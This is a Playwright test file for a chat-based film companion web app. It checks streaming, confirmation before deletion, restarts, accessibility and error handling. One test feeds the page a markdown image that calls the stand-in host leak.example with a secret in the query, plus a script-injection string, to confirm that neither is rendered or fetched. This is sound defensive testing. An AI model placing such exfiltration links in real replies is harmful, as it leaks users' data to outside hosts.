"""The page in Chromium around a scripted companion: quick, and every word of it is known."""

import re

import pytest
from browsing import Server, answers, say, visit
from playwright.sync_api import Page, expect

pytestmark = pytest.mark.browser

WATCHED = "I watched Blade Runner last night, 9 out of 10. Gorgeous and melancholy."


def test_welcome_offers_starters(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    expect(page).to_have_title("XILFTEN")
    expect(page.locator("#starters button")).to_have_count(5)
    page.locator("#starters button").first.click()
    expect(answers(page).last).to_contain_text("highest-rated")


def test_turn_shows_what_was_understood_and_done(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    reply = say(page, WATCHED)
    assert reply.startswith("Logged Blade Runner (1982): 9 out of 10")
    steps = page.locator('[data-step-type="tool"]')
    expect(steps).to_have_count(2)
    expect(steps.nth(0)).to_contain_text("Blade Runner (1982), last night, 9 out of 10")
    steps.nth(1).get_by_text("Log review").click()
    expect(steps.nth(1)).to_contain_text("rating: 9")
    expect(steps.nth(1)).to_contain_text("Logged Blade Runner (1982): 9/10, watched last night.")
    tops = [box["y"] for box in (steps.nth(1).bounding_box(), answers(page).last.bounding_box()) if box]
    assert tops == sorted(tops), "the steps stand above the answer"


def test_words_stream_and_stop(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    page.fill("#chat-input", "slow please")
    page.click("#chat-submit:not([disabled])")
    expect(answers(page).last).to_contain_text("word5")
    page.click("#stop-button")
    expect(answers(page).last).to_contain_text("Stopped.")
    expect(answers(page)).to_have_count(1)
    kept = answers(page).last.inner_text()
    assert "word599" not in kept
    assert "stopped" in (scripted.home / "said.txt").read_text().splitlines()
    page.reload()
    expect(answers(page).last).to_have_text(kept, use_inner_text=True)
    assert say(page, "still there?") == "You said: still there?"


@pytest.mark.parametrize(
    ("button", "reply"),
    [("Yes, do it", "Deleted, as you said (token-1)."), ("Keep it", "Kept. Nothing has changed.")],
)
def test_destructive_act_waits_for_a_click(page: Page, scripted: Server, button: str, reply: str) -> None:
    visit(page, scripted.url)
    assert say(page, "delete it") == "Delete your review of M*A*S*H?"
    page.get_by_role("button", name=button).click()
    expect(answers(page).last).to_have_text(reply)
    expect(page.get_by_role("button", name=re.compile("Yes, do it|Keep it"))).to_have_count(0)
    page.reload()
    expect(answers(page).last).to_have_text(reply)
    expect(page.locator('[data-step-type="user_message"]')).to_have_text(["delete it", button])
    expect(page.get_by_role("button", name="Yes, do it")).to_have_count(0)


def test_failures_are_sentences(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    assert say(page, "an unknown film") == "There is no film called M*A*S*H here. Did you mean MASH?"
    assert answers(page).all_inner_texts()[0] == "Let me look."
    reply = say(page, "crash")
    assert reply.startswith("Something went wrong") and "secret" not in page.content()
    assert say(page, "hello") == "You said: hello"


def test_odd_titles_are_shown_as_they_are(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    titles = say(page, "odd titles: Mission:Impossible *and* M*A*S*H").splitlines()
    assert [title for title in titles if title] == [
        "Mission: Impossible",
        "Thor:Ragnarok",
        "M*A*S*H",
        "[REC]",
        "What_the #$*! Do We Know!?",
        "12:01 PM",
    ]
    mine = page.locator('[data-step-type="user_message"]').last
    expect(mine).to_have_text("odd titles: Mission:Impossible *and* M*A*S*H")


def test_remote_image_in_a_reply_is_not_fetched(page: Page, scripted: Server) -> None:
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    visit(page, scripted.url)
    words = "![x](/public/favicon.svg) ![y](https://leak.example/?q=secret) <script>alert(1)</script>"
    assert say(page, words) == f"You said: {words}"
    assert answers(page).last.locator("img, script").count() == 0
    # Were one ever shown, the page's policy would stop it (the request itself fails the test in the fixture).
    page.evaluate("new Image().src = 'https://leak.example/?q=secret'")
    page.wait_for_timeout(500)
    assert any("leak.example" in text and "Content Security Policy" in text for text in refused)


def test_conversation_is_resumed_after_a_restart(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    say(page, "first thing")
    say(page, "delete it")
    address = page.url
    assert "/thread/" in address
    scripted.restart()
    page.goto(address)
    expect(answers(page).last).to_have_text("Delete your review of M*A*S*H?")
    expect(page.locator('[data-step-type="user_message"]')).to_have_text(["first thing", "delete it"])
    # The question is still open, and so are its buttons.
    page.get_by_role("button", name="Keep it").click()
    expect(answers(page).last).to_have_text("Kept. Nothing has changed.")
    assert say(page, "what was before?").startswith("You said before: first thing; delete it")


def test_open_page_survives_a_restart(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    say(page, "first thing")
    scripted.restart()
    expect(answers(page)).to_have_count(1)
    page.wait_for_timeout(2000)
    assert say(page, "what was before?").startswith("You said before: first thing")


def test_conversations_can_be_found_and_deleted(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    say(page, "a very special conversation")
    listed = page.locator('[data-sidebar="menu-item"]', has_text="a very special conversation")
    expect(listed).to_have_count(1)
    listed.hover()
    listed.locator("[aria-haspopup=menu]").click()
    page.get_by_role("menuitem", name="Delete").click()
    expect(page.get_by_text("What it saved in your library stays.")).to_be_visible()
    page.get_by_role("button", name="Confirm").click()
    expect(listed).to_have_count(0)


def test_controls_have_names(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    say(page, "hello")
    expect(page.get_by_label("Message to XILFTEN")).to_be_visible()
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("button, a, textarea")]
            .filter((e) => e.checkVisibility() && !e.getAttribute("aria-label") && !e.innerText.trim())
            .map((e) => e.outerHTML)"""
    )
    assert nameless == []
    expect(page.locator("#xilften-said[aria-live=polite]")).to_have_text("You said: hello")


def test_server_writes_only_into_its_home_and_ends_cleanly(page: Page, scripted: Server) -> None:
    visit(page, scripted.url)
    assert list((scripted.home / "cwd").iterdir()) == []
    code = scripted.stop()
    assert code == 0
    assert (scripted.home / "said.txt").read_text().splitlines()[-1] == "closed"
    assert "ASGI" not in scripted.log()
    scripted.start()
